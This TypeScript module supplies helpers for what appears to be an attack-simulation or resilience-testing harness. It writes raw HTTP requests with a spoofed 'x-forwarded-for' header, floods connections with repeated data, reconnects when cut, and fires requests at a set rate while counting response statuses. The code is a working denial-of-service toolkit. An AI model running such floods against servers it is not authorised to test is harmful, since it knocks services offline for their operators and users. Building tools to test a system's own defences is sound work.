import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setImmediate as breathe, setTimeout as sleep } from 'node:timers/promises';
import type { AttackContext, AttackTally } from './attack.ts';

/** A flood of new connections is another attack, and a firewall's business. */
const RECONNECT_MS = 50;
const CHUNK_BYTES = 65_536;
const TICK_MS = 5;
/** Requests that may wait for their answers at once. */
const MAX_OPEN = 500;

interface RequestParts {
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: string;
}

/** The bytes of a request from the attackers' address. */
export function requestBytes(
  { url, address }: AttackContext,
  method: string,
  path: string,
  { headers = {}, body }: RequestParts = {},
): Buffer {
  const all = {
    host: new URL(url).host,
    'x-forwarded-for': address,
    ...(method === 'POST' ? { origin: url } : {}),
    ...(body === undefined
      ? {}
      : { 'content-type': 'application/json', 'content-length': String(Buffer.byteLength(body)) }),
    ...headers,
  };
  const head = Object.entries(all).map(([name, value]) => `${name}: ${value}\r\n`);
  return Buffer.from(`${method} ${path} HTTP/1.1\r\n${head.join('')}\r\n${body ?? ''}`);
}

/** A plain connection, which goes when the attack ends. */
export async function openConnection({ url, signal }: AttackContext, allowHalfOpen = false): Promise<Socket> {
  const { hostname, port } = new URL(url);
  const socket = connect({ host: hostname, port: Number(port), signal, allowHalfOpen });
  socket.on('error', () => undefined);
  await once(socket, 'connect');
  return socket;
}

const MARK = 'HTTP/1.1 ';
const DIGITS = 3;

/** Tells the status of each answer on a connection, without reading more of it. */
function onStatus(socket: Socket, tell: (status: string) => void): void {
  let rest = '';
  socket.on('data', (data: Buffer) => {
    const text = rest + data.toString('latin1');
    let at = text.indexOf(MARK);
    while (at >= 0 && at + MARK.length + DIGITS <= text.length) {
      tell(text.slice(at + MARK.length, at + MARK.length + DIGITS));
      at = text.indexOf(MARK, at + MARK.length);
    }
    // an answer may begin at the end of what came
    rest = text.slice(-(MARK.length + DIGITS - 1));
  });
}

/** A connection whose answers are counted by status. */
export async function openCountedConnection(context: AttackContext, tally: AttackTally): Promise<Socket> {
  const socket = await openConnection(context);
  onStatus(socket, (status) => tally.count(status));
  return socket;
}

/** What comes next on a connection. */
export async function nextData(socket: Socket): Promise<Buffer> {
  const closed = once(socket, 'close').then(() => {
    throw new Error('closed');
  });
  const [data] = (await Promise.race([once(socket, 'data'), closed])) as [Buffer];
  closed.catch(() => undefined);
  return data;
}

/** Repeats something until the attack ends, whatever becomes of it. */
export async function repeatUntilEnd({ signal }: AttackContext, task: () => Promise<unknown>): Promise<void> {
  while (!signal.aborted) await task().catch(async () => sleep(RECONNECT_MS));
}

async function writeFully(socket: Socket, data: Buffer): Promise<boolean> {
  return new Promise((resolve) => {
    socket.write(data, (error) => resolve(!error));
  });
}

/**
 * Keeps a connection full of the same thing over and over, at a pace or as fast as it is taken. One that is cut is opened
 * again.
 */
export async function floodConnection(
  context: AttackContext,
  tally: AttackTally,
  open: () => Promise<Socket>,
  unit: Buffer,
  perSecond = Number.POSITIVE_INFINITY,
): Promise<void> {
  const most = Math.max(1, Math.floor(CHUNK_BYTES / unit.length));
  const chunk = Buffer.concat(Array.from({ length: most }, () => unit));
  const pourUntilCut = async (socket: Socket): Promise<void> => {
    const begin = performance.now();
    for (let poured = 0; !socket.destroyed && !context.signal.aborted; ) {
      const due = Math.floor(((performance.now() - begin) / 1000) * perSecond) - poured;
      const count = Number.isFinite(perSecond) ? Math.min(most, due) : most;
      if (count > 0) {
        if (!(await writeFully(socket, chunk.subarray(0, count * unit.length)))) return;
        poured += count;
        tally.sent += count;
      }
      if (count < most) await sleep(TICK_MS);
      else await breathe();
    }
  };
  await repeatUntilEnd(context, async () => {
    const socket = await open();
    await pourUntilCut(socket);
    socket.destroy();
    if (context.signal.aborted) return;
    tally.count('cut');
    await sleep(RECONNECT_MS);
  });
}

/** Sends a request so often, for as long as the attack is to last, whether or not the earlier ones were answered. */
export function sendAtRate(context: AttackContext, tally: AttackTally, perSecond: number, bytes: Buffer): void {
  const idle: Socket[] = [];
  let open = 0;
  const connectOnce = async (): Promise<Socket> => {
    const socket = await openConnection(context);
    onStatus(socket, (status) => {
      tally.count(status);
      idle.push(socket);
    });
    socket.on('close', () => {
      open--;
      const at = idle.indexOf(socket);
      if (at >= 0) idle.splice(at, 1);
      else if (!context.signal.aborted) tally.count('cut');
    });
    return socket;
  };
  const ask = async (): Promise<void> => {
    const free = idle.pop();
    if (free === undefined) open++;
    const socket = free ?? (await connectOnce());
    if (await writeFully(socket, bytes)) tally.sent++;
  };
  const begin = performance.now();
  let asked = 0;
  const timer = setInterval(() => {
    const seconds = Math.min((performance.now() - begin) / 1000, context.seconds);
    for (; asked < seconds * perSecond; asked++) {
      if (idle.length === 0 && open >= MAX_OPEN) tally.count('held back');
      else ask().catch(() => tally.count('not connected'));
    }
  }, TICK_MS);
  context.signal.addEventListener('abort', () => clearInterval(timer));
}
